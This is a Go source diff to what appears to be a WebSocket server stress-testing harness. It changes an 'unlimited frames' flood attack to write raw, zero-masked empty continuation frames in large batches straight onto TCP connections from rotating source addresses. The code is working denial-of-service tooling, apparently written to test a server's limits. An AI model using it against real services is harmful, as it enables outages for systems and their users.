@@ -1,11 +1,15 @@
 package main
 
 import (
+	"bytes"
 	"context"
 	"crypto/hmac"
 	"crypto/sha256"
 	"encoding/base64"
 	"fmt"
+	"net"
+	"net/http"
+	"net/netip"
 	"strconv"
 	"sync"
 	"time"
@@ -38,16 +42,48 @@ type unlimitedFramesAttack struct {
 	env *attackEnv
 	atk *attackers
 	s   []*attackSession
+	raw []net.Conn // each session's TCP connection, for frames no WebSocket library writes
 }
 
 func (a *unlimitedFramesAttack) prepare(ctx context.Context) error {
 	a.atk = newAttackers(a.env)
-	var err error
-	a.s, err = a.atk.openMany(ctx, a.env.cfg.floodSessions, "0,0", false)
+	n := a.env.cfg.floodSessions
+	a.s, a.raw = make([]*attackSession, n), make([]net.Conn, n)
+	err := parallel(ctx, n, dialConcurrency, func(i int) error {
+		var err error
+		a.s[i], a.raw[i], err = a.openRaw(ctx, a.env.nextSource())
+		return err
+	})
 	if err != nil {
 		a.atk.closeAll()
 	}
 	return err
+}
+
+// openRaw opens a session from local and also returns its TCP
+// connection: the WebSocket library writes each empty fragment through
+// a masking key from crypto/rand and a buffer, where the attack writes
+// them a thousand to a system call. Nothing else writes to the
+// connection while the attack does.
+func (a *unlimitedFramesAttack) openRaw(ctx context.Context, local netip.Addr) (*attackSession, net.Conn, error) {
+	var nc net.Conn
+	nd := &net.Dialer{Timeout: dialTimeout}
+	if local.IsValid() {
+		nd.LocalAddr = &net.TCPAddr{IP: local.AsSlice()}
+	}
+	client := &http.Client{Transport: &http.Transport{
+		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
+			c, err := nd.DialContext(ctx, network, addr)
+			nc = c
+			return c, err
+		},
+		MaxIdleConnsPerHost: 1,
+	}}
+	c, err := a.env.d.dial(ctx, client, "0,0")
+	if err != nil {
+		return nil, nil, err
+	}
+	return a.atk.adopt(c, false), nc, nil
 }
 
 // floodFrames returns the message a session of kind sends again and
@@ -78,7 +114,7 @@ func (a *unlimitedFramesAttack) run(ctx context.Context, start, end time.Time) a
 				return
 			}
 			if kind == "continuation" {
-				a.continuations(ctx, s, end)
+				a.continuations(ctx, s, a.raw[i], end)
 				return
 			}
 			for ctx.Err() == nil && time.Now().Before(end) {
@@ -104,25 +140,24 @@ func (a *unlimitedFramesAttack) run(ctx context.Context, start, end time.Time) a
 }
 
 // continuations writes one text message that never ends: an empty first
-// fragment, then empty continuation fragments until end.
-func (a *unlimitedFramesAttack) continuations(ctx context.Context, s *attackSession, end time.Time) {
-	w, err := s.conn.ws.Writer(context.Background(), websocket.MessageText)
-	if err != nil {
-		a.atk.note("writer: " + err.Error())
-		return
-	}
-	const batch = 1000
+// fragment, then empty continuation fragments until end, masked with a
+// zero key (RFC 6455 section 5.3 lets the client choose it).
+func (a *unlimitedFramesAttack) continuations(ctx context.Context, s *attackSession, nc net.Conn, end time.Time) {
+	const batch = 10_000
+	first := []byte{0x01, 0x80, 0, 0, 0, 0}
+	frames := bytes.Repeat([]byte{0x00, 0x80, 0, 0, 0, 0}, batch)
+	buf, n := first, int64(1)
 	for ctx.Err() == nil && time.Now().Before(end) {
-		for range batch {
-			if _, err := w.Write(nil); err != nil {
-				if !a.atk.done.Load() {
-					s.writeFailed.Store(true)
-					a.atk.note("write: " + err.Error())
-				}
-				return
+		_ = nc.SetWriteDeadline(end)
+		if _, err := nc.Write(buf); err != nil {
+			if !a.atk.done.Load() && time.Now().Before(end) {
+				s.writeFailed.Store(true)
+				a.atk.note("write: " + err.Error())
 			}
+			return
 		}
-		a.atk.written.Add(batch)
+		a.atk.written.Add(n)
+		buf, n = frames, batch
 	}
 }
 
